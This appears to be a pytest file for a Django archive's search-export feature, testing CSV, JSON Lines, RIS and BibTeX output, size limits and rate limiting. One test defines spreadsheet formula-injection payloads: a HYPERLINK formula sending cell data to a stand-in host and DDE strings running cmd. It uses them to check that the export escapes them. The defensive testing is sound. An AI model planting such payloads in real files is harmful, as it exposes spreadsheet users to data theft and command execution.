"""Search results exported as CSV, JSON Lines, RIS and BibTeX: every page, streamed."""

from __future__ import annotations

import csv
import io
import json

import bibtexparser
import pytest
import rispy
from django.core.management import call_command
from django.test import Client

from readingroom.catalogue.models import Document
from readingroom.protocols import exports

from .archive import PUBLIC_COUNT

pytestmark = pytest.mark.django_db


def body(client: Client, path: str) -> str:
    response = client.get(path)
    assert response.status_code == 200
    assert response.streaming
    return b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]


def test_every_page_in_every_format(archive: None, client: Client, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.setattr(exports, "BATCH", 5)  # several batches for 23 results
    query = "person=1&sort=date&per_page=10&page=2"  # the page does not limit the export
    rows = list(csv.DictReader(io.StringIO(body(client, f"/search/export.csv?{query}"))))
    assert len(rows) == PUBLIC_COUNT - 1
    assert rows[0]["title"] == "Memorandum on the border question" or rows[0]["date"]
    lines = body(client, f"/search/export.jsonl?{query}").splitlines()
    records = [json.loads(line) for line in lines]
    assert len(records) == PUBLIC_COUNT - 1 and records[0]["type"] == "document"
    assert [r["id"] for r in records] == [int(r["id"]) for r in rows]
    ris = rispy.loads(body(client, f"/search/export.ris?{query}"))
    assert len(ris) == PUBLIC_COUNT - 1
    bib = bibtexparser.loads(body(client, f"/search/export.bib?{query}"))
    assert len(bib.entries) == PUBLIC_COUNT - 1
    assert client.get("/search/export.docx").status_code == 404


def test_export_of_a_narrow_search(archive: None, client: Client) -> None:
    rows = list(csv.DictReader(io.StringIO(body(client, "/search/export.csv?repository=2"))))
    assert [r["id"] for r in rows] == ["3"]
    assert rows[0]["recipients"] == "Vyacheslav Molotov; Mao Zedong; Zhou Enlai; Politburo"


# Cells a spreadsheet would run as formulas (OWASP's list of first characters).
FORMULAS = {
    "title": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "summary": "+1+cmd|' /C calc'!A0",
    "citation": "-2+3",
    "rights": "@SUM(1+1)*cmd|' /C calc'!A0",
    "classification": "\t=1+1",
    "doc_type": "\r=1+1",
}


def test_no_csv_cell_starts_a_formula(archive: None, client: Client) -> None:
    Document.objects.filter(public_id=4).update(**FORMULAS)
    call_command("dump")
    for path in ("/search/export.csv?sort=date", "/data/readingroom-documents.csv"):
        response = client.get(path)
        text = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        assert len(rows) == PUBLIC_COUNT, path
        cells = [cell for row in rows for cell in row.values()]
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], path
        row = next(r for r in rows if r["id"] == "4")
        assert {name: row[name] for name in FORMULAS} == {
            name: f"'{value}" for name, value in FORMULAS.items()
        }, path


def test_a_result_set_over_the_limit_is_refused_whole_with_a_pointer_to_the_bulk_data(
    archive: None, client: Client, settings
) -> None:  # type: ignore[no-untyped-def]
    settings.EXPORT_LIMIT = PUBLIC_COUNT - 2
    for extension in exports.FORMATS:
        refused = client.get(f"/search/export.{extension}?person=1")
        assert refused.status_code == 422, extension
        message = refused.content.decode()
        assert f"This search has {PUBLIC_COUNT - 1:,} documents" in message
        assert f"at most {PUBLIC_COUNT - 2:,}" in message and "/data/" in message
    settings.EXPORT_LIMIT = PUBLIC_COUNT - 1  # exactly the result set: exported whole
    rows = list(csv.DictReader(io.StringIO(body(client, "/search/export.csv?person=1"))))
    assert len(rows) == PUBLIC_COUNT - 1


def test_exports_count_against_a_clients_rate_limit(
    archive: None, client: Client, settings
) -> None:  # type: ignore[no-untyped-def]
    settings.API_RATE_REQUESTS = 2
    assert client.get("/search/export.csv?repository=2").status_code == 200
    assert client.get("/search/export.ris?repository=2").status_code == 200
    throttled = client.get("/search/export.bib?repository=2")
    assert throttled.status_code == 429 and int(throttled["Retry-After"]) > 0
